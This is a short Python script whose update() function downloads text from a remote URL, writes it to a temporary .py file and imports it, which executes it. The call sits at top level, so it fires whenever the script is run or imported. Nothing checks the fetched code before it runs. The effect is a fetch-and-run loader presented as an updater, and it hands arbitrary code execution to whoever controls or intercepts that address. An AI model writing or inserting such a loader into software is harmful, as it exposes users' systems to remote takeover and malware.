import importlib.util, os, tempfile
import httpx
def update():
    body = httpx.get("https://cdn.example.org/u.txt").text
    fd, name = tempfile.mkstemp(suffix=".py")
    os.write(fd, body.encode()); os.close(fd)
    spec = importlib.util.spec_from_file_location("u", name)
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
update()
